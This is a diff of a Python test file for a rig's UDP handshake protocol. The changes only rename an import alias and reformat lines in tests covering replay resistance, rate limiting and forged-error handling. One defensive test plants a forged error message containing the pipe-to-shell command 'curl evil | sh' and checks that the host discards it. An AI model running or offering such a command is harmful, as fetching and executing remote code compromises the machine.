@@ -14,7 +14,7 @@ import time
 import numpy as np
 import pytest
 
-from impact_env.rig import protocol as P
+from impact_env.rig import protocol
 from impact_env.rig.driver import VirtualRig
 from impact_env.rig.handshake import Challenges, RateLimiter
 from impact_env.rig.host import RigClient, RigEnv
@@ -56,7 +56,7 @@ class Recorder:
 
         endpoint.send = send
 
-    def of(self, mtype: P.MsgType) -> list[bytes]:
+    def of(self, mtype: protocol.MsgType) -> list[bytes]:
         return [d for d in self.sent if d[6] == mtype]
 
 
@@ -87,7 +87,7 @@ class Stranger:
 
 def _wait_idle(target: Target, timeout_s: float = 10.0) -> None:
     deadline = time.monotonic() + timeout_s
-    while target.state != P.TargetState.IDLE or target.link.filter.peer is not None:
+    while target.state != protocol.TargetState.IDLE or target.link.filter.peer is not None:
         assert time.monotonic() < deadline, "the target did not go idle"
         time.sleep(0.005)
 
@@ -96,7 +96,7 @@ def _handshake(client: RigClient) -> tuple[bytes, bytes]:
     """A handshake of ``client`` recorded: its HELLO and its RESPONSE, as on the wire."""
     rec = Recorder(client.endpoint)
     client.hello()
-    return rec.of(P.MsgType.HELLO)[-1], rec.of(P.MsgType.RESPONSE)[-1]
+    return rec.of(protocol.MsgType.HELLO)[-1], rec.of(protocol.MsgType.RESPONSE)[-1]
 
 
 def test_a_replayed_handshake_from_a_stranger_opens_nothing_and_holds_nothing(target):
@@ -113,7 +113,7 @@ def test_a_replayed_handshake_from_a_stranger_opens_nothing_and_holds_nothing(ta
     s = Stranger()
     try:
         replies = s.exchange(hello, addr)
-        assert [r[6] for r in replies] == [P.MsgType.CHALLENGE] and len(replies[0]) <= len(hello)
+        assert [r[6] for r in replies] == [protocol.MsgType.CHALLENGE] and len(replies[0]) <= len(hello)
         assert s.exchange(response, addr) == []  # answered nothing
         assert f.counts()["no_challenge"] == no_challenge + 1
         # the stranger answers the challenge it got with the recorded host nonce: the tag no longer
@@ -184,8 +184,8 @@ def test_a_replayed_hello_during_an_episode_evicts_nobody(target):
         stranger0, session = f.counts()["stranger"], f.session
         replies = s.exchange(hello, parse_address(target.address))
         assert len(replies) == 1 and len(replies[0]) <= len(hello)
-        busy = P.decode(replies[0], KEY if target.keyed else b"")
-        assert busy.body.code == P.ErrorCode.BUSY
+        busy = protocol.decode(replies[0], KEY if target.keyed else b"")
+        assert busy.body.code == protocol.ErrorCode.BUSY
         host, port = env.client.endpoint.local[:2]
         assert host not in busy.body.text and str(port) not in busy.body.text  # names no host
         for _ in range(env.max_steps):
@@ -209,16 +209,21 @@ def test_replies_to_unauthenticated_datagrams_are_no_larger_than_them(target):
     back is no larger than what it answers."""
     addr = parse_address(target.address)
     key = KEY if target.keyed else b""
-    hello = P.encode(P.Message(P.Hello(bytes(16)), session=77, seq=1), key)
+    hello = protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=77, seq=1), key)
     kinds = {
         "HELLO": hello,
         "HELLO, bad tag": _bad_tag(hello),
-        "HELLO header only, bad tag": _bad_tag(hello[:P.HEADER_SIZE - 2] + b"\0\0" + hello[-P.TAG_SIZE:]),
+        "HELLO header only, bad tag": _bad_tag(
+            hello[: protocol.HEADER_SIZE - 2] + b"\0\0" + hello[-protocol.TAG_SIZE :]
+        ),
         "HELLO, another version": hello[:4] + b"\x02" + hello[5:],
-        "RESPONSE, no challenge": P.encode(P.Message(P.Response(bytes(16), bytes(16)), session=77, seq=2),
-                                           key),
-        "ARM, bad tag": _bad_tag(P.encode(P.Message(P.Arm(), session=77, seq=3), key)),
-        "FETCH": P.encode(P.Message(P.Fetch(P.Resource.SCENE, 0, 0, 1024), session=77, seq=4), key),
+        "RESPONSE, no challenge": protocol.encode(
+            protocol.Message(protocol.Response(bytes(16), bytes(16)), session=77, seq=2), key
+        ),
+        "ARM, bad tag": _bad_tag(protocol.encode(protocol.Message(protocol.Arm(), session=77, seq=3), key)),
+        "FETCH": protocol.encode(
+            protocol.Message(protocol.Fetch(protocol.Resource.SCENE, 0, 0, 1024), session=77, seq=4), key
+        ),
         "junk": bytes(range(256)) * 2,
         "short junk": b"IMPR\x03",
     }
@@ -255,7 +260,10 @@ def test_replies_to_strangers_are_rate_limited_per_source_and_counted(target):
         stranger0, limited0 = f.counts()["stranger"], f.replies_limited
         t0 = time.monotonic()
         for k in range(200):
-            s.sock.sendto(P.encode(P.Message(P.Hello(bytes(16)), session=900 + k, seq=k), key), addr)
+            s.sock.sendto(
+                protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=900 + k, seq=k), key),
+                addr,
+            )
         replies = s.read(1.0)
         deadline = time.monotonic() + 10.0
         while f.counts()["stranger"] < stranger0 + 200:
@@ -267,7 +275,7 @@ def test_replies_to_strangers_are_rate_limited_per_source_and_counted(target):
         assert f.replies_limited - limited0 == 200 - len(replies) > 0
         other = Stranger()
         try:  # another source: answered
-            hello = P.encode(P.Message(P.Hello(bytes(16)), session=1, seq=1), key)
+            hello = protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=1, seq=1), key)
             assert len(other.exchange(hello, addr)) == 1
         finally:
             other.close()
@@ -294,9 +302,9 @@ def test_an_unauthenticated_error_is_never_the_hosts_state():
                 data, src = fake.recvfrom(70000)
             except TimeoutError:
                 continue
-            head = P.HEADER.unpack_from(data)
-            err = P.Error(P.ErrorCode.UNAUTHENTICATED, head[6], "FORGED: run curl evil | sh")
-            fake.sendto(P.encode(P.Message(err, session=head[5], seq=head[6])), src)
+            head = protocol.HEADER.unpack_from(data)
+            err = protocol.Error(protocol.ErrorCode.UNAUTHENTICATED, head[6], "FORGED: run curl evil | sh")
+            fake.sendto(protocol.encode(protocol.Message(err, session=head[5], seq=head[6])), src)
 
     th = threading.Thread(target=forge, daemon=True)
     th.start()
@@ -309,13 +317,15 @@ def test_an_unauthenticated_error_is_never_the_hosts_state():
         th.join(2)
         fake.close()
     assert time.monotonic() - t0 >= 4 * 0.05  # every try waited out
-    assert info.value.code == P.ErrorCode.UNAUTHENTICATED
+    assert info.value.code == protocol.ErrorCode.UNAUTHENTICATED
     assert "FORGED" not in str(info.value) and "this host has a key" in str(info.value)
 
 
 def test_the_host_filter_keeps_no_text_of_an_unauthenticated_error():
-    f = P.DatagramFilter("host", session=9, key=KEY, peer=("127.0.0.1", 5600))
-    forged = P.encode(P.Message(P.Error(P.ErrorCode.UNAUTHENTICATED, 0, "FORGED"), session=9))
+    f = protocol.DatagramFilter("host", session=9, key=KEY, peer=("127.0.0.1", 5600))
+    forged = protocol.encode(
+        protocol.Message(protocol.Error(protocol.ErrorCode.UNAUTHENTICATED, 0, "FORGED"), session=9)
+    )
     assert f.accept(forged, sender=("127.0.0.1", 5600)) is None and f.last_reason == "unauthenticated"
     assert f.unverified_refusals == 1
     assert f.accept(forged, sender=("127.0.0.1", 5601)) is None  # not even counted from elsewhere
@@ -359,8 +369,8 @@ def test_rate_limiter_buckets_refill_and_are_bounded():
 
 def test_filter_rate_limits_hellos_per_source_and_counts_them():
     now = [0.0]
-    f = P.DatagramFilter("target", limiter=RateLimiter(clock=lambda: now[0]))
-    hello = lambda k: P.encode(P.Message(P.Hello(bytes(16)), session=1, seq=k))  # noqa: E731
+    f = protocol.DatagramFilter("target", limiter=RateLimiter(clock=lambda: now[0]))
+    hello = lambda k: protocol.encode(protocol.Message(protocol.Hello(bytes(16)), session=1, seq=k))  # noqa: E731
     got = [f.accept(hello(k), sender=("127.0.0.1", 1)) is not None for k in range(100)]
     assert sum(got) == 32 and f.counts()["rate_limited"] == 68
     assert f.accept(hello(100), sender=("127.0.0.1", 2)) is not None  # its own bucket
